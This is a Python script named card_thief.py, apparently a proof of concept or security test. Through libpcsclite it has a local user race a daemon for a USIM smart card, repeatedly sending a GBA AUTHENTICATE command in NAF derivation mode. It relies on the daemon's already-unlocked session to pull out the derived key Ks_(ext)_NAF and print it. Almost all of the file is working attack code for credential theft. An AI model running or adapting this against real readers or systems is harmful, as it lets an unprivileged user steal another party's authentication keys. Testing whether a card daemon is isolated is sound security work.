# SPDX-License-Identifier: Apache-2.0
"""What any local user can try against the card of a daemon: Ks_(ext)_NAF by an AUTHENTICATE of one's own.

Usage: python3 -c "$(cat card_thief.py)" SECONDS NAF-ID IMPI      (hex both; writes one JSON object)
It knows all that is no secret, uses nothing but libpcsclite, and goes on until it has the key or the time is over.
"""
import ctypes
import json
import sys
import time

SCOPE_SYSTEM, EXCLUSIVE, SHARED, DIRECT, LEAVE, ANY_PROTOCOL = 2, 1, 2, 3, 0, 3
USIM = bytes.fromhex("A0000000871002")

pcsc = ctypes.CDLL("libpcsclite.so.1")
pcsc.pcsc_stringify_error.restype = ctypes.c_char_p


class IoRequest(ctypes.Structure):
    """SCARD_IO_REQUEST"""
    _fields_ = [("protocol", ctypes.c_ulong), ("length", ctypes.c_ulong)]


class Refused(Exception):
    """By pcscd or the card; the text says with what."""


def check(result, what):
    if result != 0:
        raise Refused(f"{what}: {pcsc.pcsc_stringify_error(ctypes.c_ulong(result & 0xFFFFFFFF)).decode()}")


def readers(context):
    length = ctypes.c_ulong(4096)
    names = ctypes.create_string_buffer(length.value)
    check(pcsc.SCardListReaders(context, None, names, ctypes.byref(length)), "SCardListReaders")
    return [name for name in names.raw[:length.value].split(b"\0") if name]


def transmit(card, protocol, command):
    request = IoRequest(protocol, ctypes.sizeof(IoRequest))
    length = ctypes.c_ulong(258)
    answer = ctypes.create_string_buffer(length.value)
    check(pcsc.SCardTransmit(card, ctypes.byref(request), command, len(command), None, answer, ctypes.byref(length)),
          "SCardTransmit")
    data, status = answer.raw[:length.value - 2], answer.raw[length.value - 2:length.value]
    if status[0] in (0x61, 0x9F):
        return transmit(card, protocol, bytes([0, 0xC0, 0, 0, status[1]]))
    if status[0] == 0x6C:
        return transmit(card, protocol, command[:4] + status[1:])
    return data, status.hex()


def derive(card, protocol, naf_id, impi):
    """AUTHENTICATE in the GBA context, NAF derivation mode (TS 31.102 clause 7.1.1.4). The octets of the key."""
    fields = bytes([0xDE, len(naf_id)]) + naf_id + bytes([len(impi)]) + impi
    command = bytes([0, 0x88, 0, 0x84, len(fields)]) + fields + (b"\0" if protocol == 2 else b"")
    # As it is first: the daemon's selection may still stand, and with it the PIN.
    words = []
    for select in (False, True):
        if select:
            words.append(transmit(card, protocol, bytes([0, 0xA4, 4, 4, len(USIM)]) + USIM)[1])
        data, status = transmit(card, protocol, command)
        words.append(status)
        if status == "9000" and data[:1] == b"\xdb":
            return data[2:2 + data[1]]
    raise Refused("the card: " + " ".join(words))


def attempt(context, reader, mode, naf_id, impi):
    card, protocol = ctypes.c_long(), ctypes.c_ulong()
    check(pcsc.SCardConnect(context, reader, mode, ANY_PROTOCOL if mode != DIRECT else 0, ctypes.byref(card),
                            ctypes.byref(protocol)), f"SCardConnect {mode}")
    try:
        return derive(card, protocol.value, naf_id, impi)
    finally:
        pcsc.SCardDisconnect(card, LEAVE)


def main():
    end = time.monotonic() + float(sys.argv[1])
    naf_id, impi = (bytes.fromhex(text) for text in sys.argv[2:])
    attempts, refusals, key = 0, {}, b""
    context = ctypes.c_long()
    while not key and (attempts == 0 or time.monotonic() < end):
        for mode in (SHARED, EXCLUSIVE, DIRECT):
            attempts += 1
            try:
                check(pcsc.SCardEstablishContext(SCOPE_SYSTEM, None, None, ctypes.byref(context)), "SCardEstablishContext")
                try:
                    for reader in readers(context):
                        key = key or attempt(context, reader, mode, naf_id, impi)
                finally:
                    pcsc.SCardReleaseContext(context)
            except Refused as refused:
                refusals[str(refused)] = refusals.get(str(refused), 0) + 1
        time.sleep(0.01)
    print(json.dumps({"attempts": attempts, "refusals": refusals, "key": key.hex()}))


main()
